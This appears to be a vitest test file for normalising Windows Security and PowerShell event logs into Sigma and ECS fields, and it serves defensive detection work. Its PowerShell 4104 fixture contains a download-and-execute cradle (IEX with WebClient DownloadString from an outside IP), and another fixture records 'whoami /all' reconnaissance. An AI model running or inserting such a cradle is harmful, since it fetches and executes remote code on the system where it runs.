import { describe, expect, it } from "vitest";
import { detectJsonFormat, normaliseRecord } from "./normalise.js";
import { type ShapeCase, describeShapes } from "../../test/support/windows-shapes.js";
import { type EventSpec, toEvtxJson, toWinlogbeat, toXml } from "./windows/test-shapes.js";

const SECURITY = {
  channel: "Security",
  provider: "Microsoft-Windows-Security-Auditing",
  guid: "54849625-5478-4994-A5BA-3E3B0328C30D",
  computer: "DC01.contoso.local",
  pid: 640,
  tid: 712,
  keywords: "0x8020000000000000",
  level: 0,
} as const;

// Field names and meanings from the Sysmon, Security auditing and PowerShell event schemas.
const SECURITY_4624: EventSpec = {
  ...SECURITY,
  id: 4624,
  record: 5001,
  time: "2024-05-01T09:00:00.0000000Z",
  task: 12544,
  version: 2,
  data: {
    SubjectUserSid: "S-1-0-0",
    SubjectUserName: "-",
    SubjectDomainName: "-",
    TargetUserSid: "S-1-5-21-1004336348-1177238915-682003330-1104",
    TargetUserName: "alice",
    TargetDomainName: "CONTOSO",
    TargetLogonId: "0x8d3f2",
    LogonType: 3,
    LogonProcessName: "NtLmSsp ",
    AuthenticationPackageName: "NTLM",
    WorkstationName: "WS01",
    ProcessId: "0x0",
    ProcessName: "-",
    IpAddress: "10.0.0.23",
    IpPort: "51234",
  },
  shipperEcs: { event: { code: "4624", action: "logged-in", outcome: "success", category: ["authentication"] } },
};

const SECURITY_4625: EventSpec = {
  ...SECURITY,
  id: 4625,
  record: 5002,
  time: "2024-05-01T09:01:00.0000000Z",
  keywords: "0x8010000000000000",
  task: 12544,
  data: {
    SubjectUserSid: "S-1-5-18",
    SubjectUserName: "DC01$",
    SubjectDomainName: "CONTOSO",
    TargetUserName: "administrator",
    TargetDomainName: "CONTOSO",
    Status: "0xc000006d",
    SubStatus: "0xc000006a",
    LogonType: 3,
    ProcessId: "0x2a4",
    ProcessName: "C:\\Windows\\System32\\svchost.exe",
    IpAddress: "203.0.113.7",
    IpPort: "4444",
  },
};

const SECURITY_4688: EventSpec = {
  ...SECURITY,
  id: 4688,
  record: 5003,
  time: "2024-05-01T09:02:00.0000000Z",
  task: 13312,
  version: 2,
  data: {
    SubjectUserSid: "S-1-5-21-1004336348-1177238915-682003330-1104",
    SubjectUserName: "alice",
    SubjectDomainName: "CONTOSO",
    SubjectLogonId: "0x8d3f2",
    NewProcessId: "0x1f40",
    NewProcessName: "C:\\Windows\\System32\\whoami.exe",
    TokenElevationType: "%%1938",
    ProcessId: "0x10f8",
    CommandLine: "whoami /all",
    TargetUserName: "-",
    ParentProcessName: "C:\\Windows\\System32\\cmd.exe",
    MandatoryLabel: "S-1-16-8192",
  },
};

const POWERSHELL_4104: EventSpec = {
  channel: "Microsoft-Windows-PowerShell/Operational",
  provider: "Microsoft-Windows-PowerShell",
  guid: "A0C1853B-5C40-4B15-8766-3CF1C58F985A",
  computer: "WS01.contoso.local",
  pid: 5120,
  tid: 5200,
  userSid: "S-1-5-21-1004336348-1177238915-682003330-1104",
  keywords: "0x0",
  id: 4104,
  record: 77,
  time: "2024-05-01T10:16:04.0000000Z",
  task: 2,
  level: 5,
  version: 1,
  data: {
    MessageNumber: 1,
    MessageTotal: 1,
    ScriptBlockText: "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')",
    ScriptBlockId: "9c6a0b2e-3f1d-4c8a-a1b2-c3d4e5f60718",
    Path: "",
  },
};

const CASES: readonly ShapeCase[] = [
  {
    name: "Security 4624 successful logon",
    spec: SECURITY_4624,
    logsource: { service: "security", categories: [] },
    sigma: { TargetUserName: "alice", IpAddress: "10.0.0.23" },
    ecs: {
      "user.name": "alice",
      "user.domain": "CONTOSO",
      "source.ip": "10.0.0.23",
      "source.port": 51234,
      "event.outcome": "success",
      "event.category": "authentication",
      "event.action": "logged-in",
    },
  },
  {
    name: "Security 4625 failed logon",
    spec: SECURITY_4625,
    logsource: { service: "security", categories: [] },
    sigma: { TargetUserName: "administrator", Status: "0xc000006d" },
    ecs: {
      "user.name": "administrator",
      "source.ip": "203.0.113.7",
      "source.port": 4444,
      "process.pid": 0x2a4,
      "process.name": "svchost.exe",
      "event.outcome": "failure",
      "event.action": "logon-failed",
    },
  },
  {
    name: "Security 4688 process creation",
    spec: SECURITY_4688,
    logsource: { service: "security", categories: ["process_creation"] },
    sigma: { NewProcessName: "C:\\Windows\\System32\\whoami.exe", CommandLine: "whoami /all" },
    ecs: {
      "process.executable": "C:\\Windows\\System32\\whoami.exe",
      "process.pid": 0x1f40,
      "process.command_line": "whoami /all",
      "process.parent.executable": "C:\\Windows\\System32\\cmd.exe",
      "process.parent.name": "cmd.exe",
      "process.parent.pid": 0x10f8,
      "user.name": "alice",
      "user.domain": "CONTOSO",
    },
  },
  {
    name: "PowerShell 4104 script block",
    spec: POWERSHELL_4104,
    logsource: { service: "powershell", categories: ["ps_script"] },
    sigma: { ScriptBlockText: "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')" },
    ecs: {
      "process.pid": 5120,
      "user.id": "S-1-5-21-1004336348-1177238915-682003330-1104",
      "event.category": "process",
    },
  },
];

describeShapes(CASES);

describe("detectJsonFormat", () => {
  it("tells evtx JSON by Event.System, Winlogbeat by winlog, and anything else as json", () => {
    expect(detectJsonFormat(toEvtxJson(SECURITY_4688))).toBe("evtx-json");
    expect(detectJsonFormat(toWinlogbeat(SECURITY_4688))).toBe("winlogbeat");
    expect(detectJsonFormat({ Event: { EventData: {} } })).toBe("json");
    expect(detectJsonFormat({ winlog: "x" })).toBe("json");
    expect(detectJsonFormat("text")).toBe("json");
    expect(detectJsonFormat(null)).toBe("json");
  });
});

describe("normaliseRecord", () => {
  it("reads a string starting with '<' as Windows XML when no format is given", () => {
    const r = normaliseRecord(`\n  ${toXml(SECURITY_4688)}`);
    expect(r.ok && r.value.format).toBe("windows-xml");
  });

  it("gives generic JSON its log source from the options and ECS fields it already holds", () => {
    const record = {
      "@timestamp": "2024-05-01T00:00:00Z",
      kind: "proxy",
      source: { ip: "10.0.0.1" },
      user: { name: "bob" },
    };
    const r = normaliseRecord(record, undefined, {
      logsources: [{ when: { kind: ["proxy"] }, logsource: { categories: ["proxy"] } }],
    });
    if (!r.ok) throw new Error(JSON.stringify(r.issues));
    expect(r.value.format).toBe("json");
    expect(r.value.event.logsource.categories).toEqual(["proxy"]);
    expect(r.value.ecs).toEqual({ "source.ip": "10.0.0.1", "user.name": "bob" });
  });

  it("prefers values read from the event to the shipper's copies, and fills gaps from them", () => {
    const r = normaliseRecord(toWinlogbeat(SECURITY_4624));
    if (!r.ok) throw new Error(JSON.stringify(r.issues));
    // host.name comes from winlog.computer_name, not the shipper's lower-cased host.name.
    expect(r.value.ecs["host.name"]).toBe("DC01.contoso.local");
    expect(r.value.ecs["event.outcome"]).toBe("success");
  });
});
